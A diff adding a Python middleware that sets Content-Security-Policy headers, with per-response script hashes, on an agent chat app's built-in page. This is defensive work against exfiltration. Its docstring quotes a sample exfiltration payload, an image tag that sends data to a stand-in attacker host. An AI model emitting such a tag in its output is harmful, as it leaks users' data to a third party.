@@ -1,0 +1,57 @@
+"""The built-in page's Content-Security-Policy (issue 31, hole 4), on every response of its app.
+
+The page shows text a model or ss-tools wrote; page.py renders it as plain text, and this
+header is the second wall: scripts only from the page's origin or by the hash of its own
+inline blocks (Gradio's page template carries its config inline, so the hashes are taken from
+each HTML response), images only from the origin or `data:`, connections only to the origin,
+and no framing. A stray `<img src="https://attacker/?d=…">` or `fetch` to another origin is
+refused by the browser before anything leaves the page.
+"""
+
+from __future__ import annotations
+
+from starlette.datastructures import MutableHeaders
+from starlette.types import ASGIApp, Message, Receive, Scope, Send
+
+from agentchat.agent.csp import content_security_policy
+
+STATIC = content_security_policy("", inline_styles=True)  # a response that is not the HTML
+
+
+class PageSecurityHeaders:
+    def __init__(self, app: ASGIApp, *, prefix: str) -> None:
+        self.app = app
+        self.prefix = prefix
+
+    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
+        path = scope.get("path", "") if scope["type"] == "http" else ""
+        if path != self.prefix and not path.startswith(self.prefix + "/"):
+            return await self.app(scope, receive, send)
+        start: Message | None = None
+        chunks: list[bytes] = []
+
+        async def wrapped(message: Message) -> None:
+            nonlocal start
+            if message["type"] == "http.response.start":
+                headers = MutableHeaders(raw=message["headers"])
+                if headers.get("content-type", "").startswith("text/html"):
+                    start = message  # held until the body, whose inline scripts it names
+                    return
+                headers["Content-Security-Policy"] = STATIC
+                headers["X-Content-Type-Options"] = "nosniff"
+                await send(message)
+            elif message["type"] == "http.response.body" and start is not None:
+                chunks.append(message.get("body", b""))
+                if message.get("more_body"):
+                    return
+                body = b"".join(chunks)
+                headers = MutableHeaders(raw=start["headers"])
+                headers["Content-Security-Policy"] = content_security_policy(
+                    body.decode("utf-8", errors="replace"), inline_styles=True)
+                headers["X-Content-Type-Options"] = "nosniff"
+                await send(start)
+                await send({**message, "body": body})  # the last body message, whole
+            else:
+                await send(message)
+
+        await self.app(scope, receive, wrapped)
